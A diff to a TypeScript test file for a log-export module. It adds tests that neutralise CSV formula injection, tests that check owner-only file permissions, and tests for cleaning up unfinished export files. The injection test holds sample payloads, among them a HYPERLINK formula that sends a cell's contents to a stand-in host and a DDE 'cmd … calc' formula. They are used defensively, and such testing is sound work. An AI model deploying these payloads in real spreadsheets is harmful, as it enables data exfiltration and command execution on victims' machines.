@@ -1,9 +1,16 @@
-import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
+import { spawn } from 'node:child_process';
+import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
+import { fileURLToPath } from 'node:url';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { LogStore } from '../../src-main/hub/store/database.ts';
+import { EXPORT_PARTS_FILE, ExportParts, type PartRegistry } from '../../src-main/hub/store/export-parts.ts';
 import { CSV_COLUMNS, exportLog, formatFromPath, type ExportProgress } from '../../src-main/hub/store/export.ts';
+import { until } from './sim-hub.ts';
+
+const ROOT = fileURLToPath(new URL('../..', import.meta.url));
+const CRASHER = path.join(ROOT, 'test', 'hub', 'fixtures', 'export-crash.ts');
 
 const A = 'aa:bb:cc:dd:ee:01';
 const B = 'aa:bb:cc:dd:ee:02';
@@ -243,5 +250,120 @@ describe('formatFromPath', () => {
     expect(formatFromPath('log.JSONL')).toBe('ndjson');
     expect(formatFromPath('log.json')).toBeNull();
     expect(formatFromPath('csv')).toBeNull();
+  });
+});
+
+describe('CSV formula injection', () => {
+  it('prefixes text cells that a spreadsheet would run as a formula with a single quote (OWASP)', async () => {
+    const evil = ['=HYPERLINK("http://x/?d="&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\0=1'];
+    for (const [i, body] of evil.entries()) store.addMessage({ device: A, name: 'pico-a', t: 2000 + i, direction: 'in', kind: 'text', body });
+    store.addEvent({ device: A, name: '=cmd|\' /C calc\'!A0', t: 3000, state: 'linked', reason: '-from the device, with, commas' });
+    store.addMessage({ device: A, name: 'pico-a', t: 3001, direction: 'in', kind: 'text', body: 'a=b, not at the start' });
+    store.addSample({ device: A, name: 'pico-a', seq: 1, t: 3002, rttMs: 8.5, lost: false });
+    store.flush();
+    const out = path.join(dir, 'evil.csv');
+    await exportLog(dbFile, out, { format: 'csv' });
+    const records = csvRecords(out);
+    expect(records.slice(0, evil.length).map((r) => r.text)).toEqual(evil.map((e) => `'${e}`));
+    const event = records.find((r) => r.record === 'event')!;
+    expect(event.name).toBe(`'=cmd|' /C calc'!A0`);
+    expect(event.reason).toBe(`'-from the device, with, commas`);
+    // Cells that cannot start a formula, and numbers we wrote ourselves, are untouched.
+    expect(records.find((r) => r.t_ms === '3001')!.text).toBe('a=b, not at the start');
+    expect(records.find((r) => r.record === 'sample')).toMatchObject({ name: 'pico-a', rtt_ms: '8.5' });
+    // No cell of the file starts with a formula character, quoted or not.
+    for (const line of readFileSync(out, 'utf8').split('\r\n').slice(1)) {
+      for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+\-@\t\r\0]/);
+    }
+  });
+
+  it('leaves NDJSON as it is: JSON is not run by spreadsheets', async () => {
+    store.addMessage({ device: A, t: 1, direction: 'in', kind: 'text', body: '=1+1' });
+    store.flush();
+    const out = path.join(dir, 'x.ndjson');
+    await exportLog(dbFile, out, { format: 'ndjson' });
+    expect(ndjsonRecords(out)[0]!.text).toBe('=1+1');
+  });
+});
+
+describe.skipIf(process.platform === 'win32')('file modes', () => {
+  const mode = (f: string): number => statSync(f).mode & 0o777;
+
+  it('writes exports owner-only, also over an existing readable file', async () => {
+    writeMixed();
+    const out = path.join(dir, 'out.csv');
+    writeFileSync(out, 'old', { mode: 0o644 });
+    chmodSync(out, 0o644);
+    await exportLog(dbFile, out, { format: 'csv' });
+    expect(mode(out)).toBe(0o600);
+  });
+
+  it('creates the log, its WAL and shared memory owner-only, and narrows an older readable log', () => {
+    writeMixed();
+    for (const suffix of ['', '-wal', '-shm']) expect(mode(dbFile + suffix)).toBe(0o600);
+    store.close();
+    const older = path.join(dir, 'older.sqlite');
+    writeFileSync(older, '', { mode: 0o644 });
+    chmodSync(older, 0o644);
+    const reopened = LogStore.open(older);
+    reopened.close();
+    expect(mode(older)).toBe(0o600);
+    store = LogStore.open(dbFile);
+  });
+});
+
+describe('unfinished exports', () => {
+  it('lists the .part while it is written and forgets it when the export is done', async () => {
+    writeMixed();
+    const parts = new ExportParts(path.join(dir, EXPORT_PARTS_FILE));
+    const seen: string[] = [];
+    const registry: PartRegistry = {
+      add: (p) => {
+        seen.push(`add ${p}`);
+        return parts.add(p);
+      },
+      remove: (p) => {
+        seen.push(`remove ${p}`);
+        return parts.remove(p);
+      },
+    };
+    const out = path.join(dir, 'out.csv');
+    await exportLog(dbFile, out, { format: 'csv', parts: registry });
+    expect(seen).toEqual([`add ${out}.part`, `remove ${out}.part`]);
+    expect(JSON.parse(readFileSync(path.join(dir, EXPORT_PARTS_FILE), 'utf8')).parts).toEqual([]);
+  });
+
+  it('removes the .part a killed export left behind at the next start, and leaves a live one alone', async () => {
+    for (let i = 0; i < 200_000; i++) store.addSample({ device: A, seq: i, t: i, rttMs: 1, lost: false });
+    store.flush();
+    const out = path.join(dir, 'crash.csv');
+    const partsFile = path.join(dir, EXPORT_PARTS_FILE);
+    const child = spawn(process.execPath, ['--import', 'tsx', CRASHER, dbFile, out, partsFile], { cwd: ROOT, stdio: ['ignore', 'pipe', 'pipe'] });
+    let stdout = '';
+    let stderr = '';
+    child.stdout.setEncoding('utf8').on('data', (s: string) => (stdout += s));
+    child.stderr.setEncoding('utf8').on('data', (s: string) => (stderr += s));
+    const exited = new Promise((resolve) => child.on('exit', resolve));
+    try {
+      await until('the child writes its part', () => stdout.includes('writing') || child.exitCode !== null, 30_000);
+      expect(stdout, stderr).toContain('writing');
+    } finally {
+      child.kill('SIGKILL');
+      await exited;
+    }
+    expect(existsSync(`${out}.part`)).toBe(true);
+    expect(existsSync(out)).toBe(false);
+
+    // Another process's export in progress (alive) is not touched.
+    const live = path.join(dir, 'live.csv.part');
+    writeFileSync(live, 'x');
+    const listed = JSON.parse(readFileSync(partsFile, 'utf8')) as { version: 1; parts: { file: string; pid: number }[] };
+    listed.parts.push({ file: live, pid: process.ppid });
+    writeFileSync(partsFile, JSON.stringify(listed));
+
+    expect(await new ExportParts(partsFile).removeStale()).toEqual([`${out}.part`]);
+    expect(existsSync(`${out}.part`)).toBe(false);
+    expect(existsSync(live)).toBe(true);
+    expect(JSON.parse(readFileSync(partsFile, 'utf8')).parts).toEqual([{ file: live, pid: process.ppid }]);
   });
 });
